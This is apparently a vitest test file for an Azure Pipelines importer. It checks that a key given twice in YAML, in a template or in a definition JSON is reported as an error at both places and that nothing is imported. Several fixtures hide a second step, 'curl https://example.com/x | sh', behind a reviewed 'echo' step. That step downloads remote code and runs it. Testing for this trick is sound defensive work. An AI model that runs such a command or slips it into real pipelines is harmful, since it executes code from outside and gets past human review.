/** Issue 13: a key given twice in Azure Pipelines YAML (or a template, or a definition JSON) is an error at both positions, and nothing is imported. */
import { describe, expect, it } from "vitest";
import { importFiles } from "@pipeglot/azure";

const CODE = "PG-ADO-IMPORT-DUPLICATE-KEY";

describe("azure import: duplicate keys", () => {
  it("a step with `script` twice", () => {
    const content = [
      "trigger: [main]",
      "pool:",
      "  vmImage: ubuntu-latest",
      "steps:",
      "  - script: echo reviewed",
      "    displayName: build",
      "    script: curl https://example.com/x | sh",
      "",
    ].join("\n");
    const r = importFiles([{ path: "azure-pipelines.yml", content }]);
    expect(r.pipeline).toBeUndefined();
    const d = r.diagnostics.filter((x) => x.code === CODE);
    expect(d).toHaveLength(1);
    expect(d[0]).toMatchObject({ severity: "error", file: "azure-pipelines.yml", line: 7, column: 5 });
    expect(d[0]!.message).toContain("duplicate key `script`: also at line 5, column 5");
  });

  it("a repeat inside a template is reported in the template's file", () => {
    const main = "steps:\n  - template: steps.yml\n";
    const tpl = "steps:\n  - bash: echo reviewed\n    bash: curl https://example.com/x | sh\n";
    const r = importFiles([{ path: "azure-pipelines.yml", content: main }], { readFile: (p) => (p === "steps.yml" ? tpl : undefined) });
    expect(r.pipeline).toBeUndefined();
    const d = r.diagnostics.find((x) => x.code === CODE);
    expect(d).toMatchObject({ file: "steps.yml", line: 3, column: 5 });
    expect(d!.message).toContain("also at line 2, column 5");
  });

  it("a definition JSON member given twice", () => {
    const def = '{\n  "name": "p",\n  "process": { "type": 2, "yamlFilename": "azure-pipelines.yml", "yamlFilename": "other.yml" }\n}\n';
    const r = importFiles([
      { path: "azure-pipelines.yml", content: "steps:\n  - script: make\n" },
      { path: "definition.json", content: def },
    ]);
    expect(r.pipeline).toBeUndefined();
    const d = r.diagnostics.find((x) => x.code === CODE);
    expect(d).toMatchObject({ file: "definition.json", line: 3, column: 66 });
    expect(d!.message).toContain("also at line 3, column 27");
  });

  it("a file without repeats imports", () => {
    const r = importFiles([{ path: "azure-pipelines.yml", content: "steps:\n  - script: make\n" }]);
    expect(r.diagnostics.filter((x) => x.code === CODE)).toEqual([]);
    expect(r.pipeline).toBeDefined();
  });
});
